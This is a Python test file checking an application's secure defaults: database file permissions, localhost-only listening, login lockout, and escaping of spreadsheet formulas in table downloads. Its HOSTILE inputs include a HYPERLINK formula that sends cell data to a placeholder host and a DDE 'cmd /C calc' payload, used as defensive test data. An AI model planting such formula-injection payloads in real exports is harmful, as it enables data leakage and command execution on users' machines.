"""Safer defaults: what a fresh installation exposes before anyone configures it."""

from __future__ import annotations

import csv
import io
import stat
import time
from collections import Counter
from pathlib import Path

import openpyxl
import pytest
from playwright.sync_api import Browser, Page, expect
from sqlalchemy import text
from sqlmodel import col, select

import models as m
from sinergi.core import spreadsheet
from sinergi.core.db import engine_for, make_engine, read_session, write_session
from sinergi.core.settings import LOGIN_POLICY
from tests.browser import served_app
from tests.conftest import DemoAccounts
from tests.factories import PASSWORD


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_database_file_and_its_directory_are_readable_by_their_owner_only(tmp_path: Path) -> None:
    path = tmp_path / "baru" / "sinergi.db"
    engine = make_engine(f"sqlite:///{path}")
    with engine.begin() as connection:
        connection.execute(text("CREATE TABLE catatan (isi TEXT)"))
        connection.execute(text("INSERT INTO catatan VALUES ('rahasia')"))
        wal = path.with_name("sinergi.db-wal")
        assert wal.exists()
        assert _mode(wal) == 0o600, "the write-ahead log has the database's permissions"
    engine.dispose()
    assert _mode(path) == 0o600
    assert _mode(path.parent) == 0o700


def test_an_existing_database_file_open_to_others_is_closed_on_start(tmp_path: Path) -> None:
    path = tmp_path / "sinergi.db"
    path.touch(mode=0o644)
    path.chmod(0o644)
    make_engine(f"sqlite:///{path}").dispose()
    assert _mode(path) == 0o600


def _listening(port: int) -> list[str]:
    """The local addresses (hex, as the kernel lists them) listening on ``port``, IPv4 and IPv6."""
    found = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, port_hex = local.rsplit(":", 1)
            if state == "0A" and int(port_hex, 16) == port:
                found.append(address)
    return found


def test_the_server_listens_on_this_machine_only_unless_told_otherwise(demo_sqlite_url: str) -> None:
    with served_app(demo_sqlite_url, address=None) as base:
        addresses = _listening(int(base.rsplit(":", 1)[1]))
    assert addresses == ["0100007F"], "127.0.0.1 only: no other interface, no IPv6 wildcard"


@pytest.mark.browser
def test_wrong_passwords_keep_counting_across_a_reload_and_a_new_browser(
    browser: Browser, demo_copy_url: str, demo_accounts: DemoAccounts
) -> None:
    """Five wrong guesses from one address, each at another name: a reload, or another browser on the
    same machine, is still refused, even with the right password for a real account; nothing counted
    lives in the browser's session."""
    with served_app(demo_copy_url) as base:
        first = browser.new_context()
        page = first.new_page()
        page.goto(base)
        for n in range(LOGIN_POLICY.lock_after):
            _sign_in(page, f"tebakan-{n}", "salah-sekali-123")
            expect(page.get_by_text("Gagal masuk. Periksa nama pengguna")).to_be_visible(timeout=60_000)
            page.reload()
        second = browser.new_context()
        other = second.new_page()
        other.goto(base)
        _sign_in(other, demo_accounts.admin.username, PASSWORD)
        expect(other.get_by_text("Gagal masuk. Periksa nama pengguna")).to_be_visible(timeout=60_000)
        expect(other.get_by_label("Nama pengguna")).to_be_visible()
        first.close()
        second.close()
    with read_session(engine_for(demo_copy_url)) as session:
        actions = list(session.exec(select(m.AuditLog.action).where(m.AuditLog.entity == "app_user")))
    assert actions.count("login_failed") == LOGIN_POLICY.lock_after
    assert "login" not in actions


def _sign_in(page: Page, username: str, password: str) -> None:
    form = page.get_by_test_id("stForm").filter(has=page.get_by_label("Nama pengguna"))
    expect(form).to_be_visible(timeout=60_000)
    form.get_by_label("Nama pengguna").fill(username)
    form.get_by_label("Kata sandi").fill(password)
    form.get_by_role("button", name="Masuk").click()


HOSTILE = {
    "program": '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    "meeting": "@SUM(1+1)",
    "feedback": "+cmd|' /C calc'!A0",
    "user": "-2+3",
}


def _formula_cells_in(name: str, data: bytes) -> list[str]:
    """The cells of a downloaded table that a spreadsheet would run as a formula."""
    if name.endswith(".xlsx"):
        workbook = openpyxl.load_workbook(io.BytesIO(data))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        return [str(cell.value) for cell in cells if cell.data_type == "f"]
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    return [cell for row in rows for cell in row if _runs(cell)]


def _runs(cell: str) -> bool:
    if not cell.startswith(spreadsheet.FORMULA_STARTS):
        return False
    try:
        float(cell)  # a negative number is a number
    except ValueError:
        return True
    return False


@pytest.mark.browser
def test_every_table_download_keeps_text_that_looks_like_a_formula_as_text(
    browser: Browser, demo_copy_url: str, demo_accounts: DemoAccounts, tmp_path: Path
) -> None:
    engine = engine_for(demo_copy_url)
    with write_session(engine) as session:
        program = session.exec(select(m.Program).order_by(col(m.Program.id))).first()
        meeting = session.exec(select(m.Meeting).order_by(col(m.Meeting.id))).first()
        item = session.exec(select(m.FeedbackItem).order_by(col(m.FeedbackItem.id))).first()
        admin = session.exec(select(m.User).where(m.User.username == demo_accounts.admin.username)).one()
        assert program and meeting and item
        program.name, meeting.title, item.text = HOSTILE["program"], HOSTILE["meeting"], HOSTILE["feedback"]
        admin.display_name = HOSTILE["user"]
    downloaded: dict[str, bytes] = {}
    with served_app(demo_copy_url) as base:
        page = browser.new_page(viewport={"width": 1366, "height": 900}, accept_downloads=True)
        page.goto(f"{base}/programs")
        _sign_in(page, demo_accounts.admin.username, PASSWORD)
        expect(page.get_by_test_id("stDataFrame").first).to_be_visible(timeout=60_000)
        page.get_by_test_id("stDataFrame").first.hover()
        expect(page.get_by_test_id("stElementToolbar").first).to_be_attached(timeout=10_000)
        expect(page.get_by_role("button", name="Download as CSV")).to_have_count(0)
        for path in ("/programs", "/engagement", "/compliance", "/reporting", "/admin"):
            page.goto(f"{base}{path}")
            # Every page listed opens on a table with its downloads.
            expect(page.get_by_test_id("stDownloadButton").first).to_be_visible(timeout=60_000)
            _rendered(page)
            tabs = page.get_by_role("tab")
            for index in range(max(tabs.count(), 1)):
                if tabs.count():
                    tabs.nth(index).click()
                    time.sleep(1)  # the click starts a run of the page that draws the tab
                    _rendered(page)
                for file_name, data in _download_every_table(page, tmp_path):
                    downloaded[f"{path} {file_name}"] = data
    assert Counter(name.rsplit(".", 1)[1] for name in downloaded) == Counter(
        {"csv": len(downloaded) // 2, "xlsx": len(downloaded) // 2}
    ), "every table offers both files"
    assert len(downloaded) >= 16, sorted(downloaded)
    running = {name: cells for name, data in downloaded.items() if (cells := _formula_cells_in(name, data))}
    assert running == {}
    everything = b"".join(downloaded.values()).decode("utf-8", errors="ignore")
    assert "'=HYPERLINK" in everything and "'@SUM(1+1)" in everything, "the text is kept, as text"


def _rendered(page: Page) -> None:
    expect(page.locator('[data-testid="stApp"][data-test-script-state="notRunning"]')).to_be_attached(
        timeout=60_000
    )


def _download_every_table(page: Page, folder: Path) -> list[tuple[str, bytes]]:
    buttons = page.get_by_test_id("stDownloadButton").locator("button").filter(visible=True)
    files = []
    for index in range(buttons.count()):
        label = buttons.nth(index).inner_text()
        if "CSV" not in label and "Excel" not in label:
            continue  # a report or an export of its own, not a table's
        with page.expect_download(timeout=60_000) as started:
            buttons.nth(index).click()
        target = folder / started.value.suggested_filename
        started.value.save_as(target)
        files.append((started.value.suggested_filename, target.read_bytes()))
    return files
